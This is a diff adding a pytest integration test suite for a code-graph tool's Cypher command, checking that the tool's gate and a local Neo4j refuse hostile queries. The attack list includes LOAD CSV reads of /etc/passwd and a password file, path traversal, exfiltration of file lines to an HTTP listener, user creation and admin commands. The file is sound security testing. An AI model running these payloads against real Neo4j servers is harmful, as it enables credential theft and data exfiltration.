@@ -1,0 +1,237 @@
+"""Analyst Cypher (`spider cypher`) is a bounded read of the code graph: every attack of issue 18 is refused with a
+one-line error, and the local Neo4j itself refuses file and network access to a statement that skips the gate."""
+
+from __future__ import annotations
+
+import http.server
+import os
+import signal
+import subprocess
+import threading
+import time
+from pathlib import Path
+from typing import Iterator
+
+import pytest
+from neo4j.exceptions import ClientError
+
+import cypher
+from indexer.settings import external_neo4j
+from tests.integration import test_cli
+from tests.integration.test_cli import one_line_error, run_spider, succeeded
+
+pytestmark = pytest.mark.integration
+shop = test_cli.shop  # the indexed Python shop fixture (module scope)
+
+ENDLESS = "UNWIND range(1, 100000000000) AS x RETURN count(x) AS n"
+local_only = pytest.mark.skipif(external_neo4j() is not None, reason="the local launcher's settings")
+
+
+@pytest.fixture
+def listener() -> Iterator[tuple[str, list[str]]]:
+    """An HTTP server on 127.0.0.1: (its port, the paths of the requests it received)."""
+    requests: list[str] = []
+
+    class Record(http.server.BaseHTTPRequestHandler):
+        def do_GET(self) -> None:  # noqa: N802 (http.server's name)
+            requests.append(self.path)
+            self.send_response(200)
+            self.end_headers()
+            self.wfile.write(b"a,b\n")
+
+        def log_message(self, *args: object) -> None:
+            pass
+
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Record)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    yield str(server.server_address[1]), requests
+    server.shutdown()
+
+
+def password_file() -> Path:
+    return Path(os.environ["SPIDER_HOME"]) / "neo4j" / "password"
+
+
+def attacks(port: str) -> dict[str, str]:
+    leak = f"http://127.0.0.1:{port}/leak"
+    return {
+        "load_csv_etc_passwd": "LOAD CSV FROM 'file:///etc/passwd' AS l RETURN l",
+        "load_csv_password_file": f"LOAD CSV FROM 'file://{password_file()}' AS l RETURN l",
+        "load_csv_dot_dot": "LOAD CSV FROM 'file:///../../../../etc/passwd' AS l RETURN l",
+        "load_csv_in_subquery": "MATCH (v:Snapshot {repo: $repo}) CALL (v) { LOAD CSV FROM 'file:///etc/passwd' AS l "
+                                "RETURN l } RETURN l",
+        "load_csv_http": f"LOAD CSV FROM '{leak}?d=' + 'x' AS l RETURN l",
+        "load_csv_exfiltrate": f"LOAD CSV FROM 'file:///etc/passwd' AS l LOAD CSV FROM '{leak}?d=' + l[0] AS m "
+                               "RETURN m",
+        "terminate_transactions": "TERMINATE TRANSACTIONS 'neo4j-transaction-1'",
+        "show_transactions": "SHOW TRANSACTIONS",
+        "show_users": "SHOW USERS",
+        "show_settings": "SHOW SETTINGS",
+        "create_user": "CREATE USER mallory SET PASSWORD 'correct-horse-battery'",
+        "clear_query_caches": "CALL db.clearQueryCaches()",
+        "list_config": "CALL dbms.listConfig() YIELD name, value RETURN name, value",
+        "in_transactions": "UNWIND [1] AS x CALL (x) { RETURN x AS y } IN TRANSACTIONS RETURN y",
+        "two_statements": "MATCH (n:Snapshot) RETURN n.repo AS repo;\nMATCH (m:Snapshot) RETURN m.repo AS repo",
+        "write": "CREATE (n:Function {repo: $repo, id: 'injected'}) RETURN n.id AS id",
+    }
+
+
+ATTACKS = list(attacks("0"))
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_each_attack_is_refused_in_one_line_and_leaks_nothing(attack, shop, tmp_path, listener):
+    port, requests = listener
+    query = tmp_path / f"{attack}.cypher"
+    query.write_text(attacks(port)[attack] + "\n")
+
+    result = run_spider("cypher", query, "--repo", shop)
+
+    line = one_line_error(result)
+    assert "root:" not in line and password_file().read_text().strip() not in line
+    assert requests == []
+
+
+def test_the_refusal_says_why(shop, tmp_path):
+    query = tmp_path / "q.cypher"
+    reasons = {}
+    for attack in ("load_csv_etc_passwd", "terminate_transactions", "show_users", "clear_query_caches", "write"):
+        query.write_text(attacks("0")[attack])
+        reasons[attack] = one_line_error(run_spider("cypher", query, "--repo", shop))
+
+    assert "LOAD CSV" in reasons["load_csv_etc_passwd"]
+    assert "TerminateTransactions" in reasons["terminate_transactions"]
+    assert "administration" in reasons["show_users"]
+    assert "db.clearQueryCaches" in reasons["clear_query_caches"]
+    assert "writes" in reasons["write"]
+
+
+def test_reads_of_the_graph_and_the_read_procedures_still_run(shop, tmp_path):
+    query = tmp_path / "labels.cypher"
+    query.write_text("CALL db.labels() YIELD label RETURN label ORDER BY label")
+
+    out = succeeded(run_spider("cypher", query, "--json"))
+
+    assert '"label": "Function"' in out
+
+
+def test_only_analyst_queries_run_by_name_and_help_lists_only_them(shop):
+    internal = one_line_error(run_spider("cypher", "version_truncate", "--repo", shop, "-p", "seq=0"))
+    job = one_line_error(run_spider("cypher", "job_create", "--repo", shop))
+    out = succeeded(run_spider("cypher", "--help"))
+
+    assert internal.startswith("spider: error: no query named 'version_truncate'")
+    assert job.endswith(f"(named: {', '.join(cypher.ANALYST)})")
+    named = " ".join(out.split("Named queries:")[1].split("Options:")[0].split())
+    assert named == ", ".join(cypher.ANALYST) + "."
+
+
+def test_a_bogus_snapshot_is_an_error_and_a_prefix_is_resolved(shop, store):
+    sha = store.list_snapshots(shop)[0]["snapshot"]
+    callers = ["cypher", "callers", "--repo", shop, "-p", "id=shop/payments.py:charge", "--json"]
+
+    bogus = one_line_error(run_spider(*callers, "-p", "snapshot=deadbeef"))
+    not_text = one_line_error(run_spider(*callers, "-p", "snapshot=[1]"))
+    by_prefix = succeeded(run_spider(*callers, "-p", f"snapshot={sha[:8]}"))
+
+    assert bogus.startswith(f"spider: error: no complete snapshot of {shop} matches 'deadbeef'")
+    assert not_text == "spider: error: --param snapshot takes a name, not [1]"
+    assert by_prefix == succeeded(run_spider(*callers)) and "shop/service.py:checkout" in by_prefix
+
+
+def test_a_query_past_the_timeout_is_stopped_with_a_one_line_error(shop, tmp_path):
+    query = tmp_path / "endless.cypher"
+    query.write_text(ENDLESS)
+
+    started = time.monotonic()
+    line = one_line_error(run_spider("cypher", query, env={"SPIDER_CYPHER_TIMEOUT": "2"}, timeout=60))
+
+    assert time.monotonic() - started < 30
+    assert line == "spider: error: the query ran longer than 2 s and was stopped (SPIDER_CYPHER_TIMEOUT sets the " \
+                   "limit in seconds)"
+
+
+@pytest.mark.parametrize("value", ["abc", "0", "-5", "1.5"])
+def test_a_bad_timeout_setting_is_a_one_line_error(value, shop):
+    line = one_line_error(run_spider("cypher", "callers", "--repo", shop, "-p", "id=x",
+                                     env={"SPIDER_CYPHER_TIMEOUT": value}))
+
+    assert line == f"spider: error: SPIDER_CYPHER_TIMEOUT must be a positive whole number, not {value!r}"
+
+
+def running(store, text: str) -> list[str]:
+    """The transactions running a statement that contains `text` (past the gate's EXPLAIN of it)."""
+    rows = store.driver.execute_query("SHOW TRANSACTIONS YIELD transactionId, currentQuery WHERE currentQuery "
+                                      "CONTAINS $text AND NOT currentQuery STARTS WITH 'EXPLAIN' "
+                                      "RETURN transactionId", text=text)[0]
+    return [r["transactionId"] for r in rows]
+
+
+def test_one_interrupt_stops_the_query_and_the_process(shop, tmp_path, store):
+    query = tmp_path / "endless.cypher"
+    marker = f"x_{shop[-10:]}"
+    query.write_text(ENDLESS.replace("AS x", f"AS {marker}").replace("count(x)", f"count({marker})"))
+    process = subprocess.Popen(["spider", "cypher", str(query)], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
+                               text=True, env={**os.environ, "SPIDER_CYPHER_TIMEOUT": "600"})
+    try:
+        deadline = time.monotonic() + 60
+        while not running(store, f"AS {marker}") and time.monotonic() < deadline:
+            time.sleep(0.2)
+        assert running(store, f"AS {marker}"), "the query never started"
+
+        process.send_signal(signal.SIGINT)
+        stdout, stderr = process.communicate(timeout=5)
+    finally:
+        process.kill()
+
+    assert process.returncode == 130
+    assert stderr == "spider: interrupted (the query was cancelled; a read changes nothing)\n" and stdout == ""
+    deadline = time.monotonic() + 10
+    while running(store, f"AS {marker}") and time.monotonic() < deadline:
+        time.sleep(0.2)
+    assert running(store, f"AS {marker}") == []
+
+
+# the server itself, for a statement that does not pass through spider's gate ---------------------------------------
+@local_only
+def test_the_local_server_refuses_file_urls_to_a_statement_that_skips_the_gate(store):
+    for url in ("file:///etc/passwd", f"file://{password_file()}", "file:///../../../../etc/passwd"):
+        with pytest.raises(ClientError) as refused:
+            store.driver.execute_query(f"LOAD CSV FROM '{url}' AS l RETURN l")
+        assert "'dbms.security.allow_csv_import_from_file_urls' is false" in refused.value.message
+
+
+@local_only
+def test_the_local_server_refuses_network_urls_to_a_statement_that_skips_the_gate(store, listener):
+    port, requests = listener
+    for host in ("127.0.0.1", "localhost", "[::1]", "10.0.0.1"):
+        with pytest.raises(ClientError) as refused:
+            store.driver.execute_query(f"LOAD CSV FROM 'http://{host}:{port}/leak' AS l RETURN l")
+        assert "is blocked via the configuration property internal.dbms.cypher_ip_blocklist" in refused.value.message
+
+    assert requests == []
+
+
+@local_only
+def test_the_local_server_bounds_transactions_and_confines_imports(store):
+    rows = store.driver.execute_query(
+        "SHOW SETTINGS YIELD name, value WHERE name IN ['db.transaction.timeout', 'server.directories.import', "
+        "'dbms.security.allow_csv_import_from_file_urls'] RETURN name, value")[0]
+    settings = {r["name"]: r["value"] for r in rows}
+
+    assert settings["db.transaction.timeout"] == "15m"
+    assert settings["dbms.security.allow_csv_import_from_file_urls"] == "false"
+    imports = Path(settings["server.directories.import"])
+    assert imports.is_relative_to(Path(os.environ["SPIDER_HOME"]).resolve()) and list(imports.iterdir()) == []
+
+
+@local_only
+def test_the_reader_role_script_is_valid_cypher_for_this_neo4j(store):
+    """Community runs none of it (roles are Enterprise-only) but parses it all: a syntax error would show here."""
+    script = Path(__file__).resolve().parents[2] / "deploy" / "reader-role.cypher"
+    for statement in cypher.statements(script.read_text()):
+        with store.driver.session(database="system") as session:
+            try:
+                session.run("EXPLAIN " + statement, password="a-long-enough-password").consume()
+            except ClientError as exc:
+                assert exc.code == "Neo.ClientError.Statement.UnsupportedAdministrationCommand", exc.message
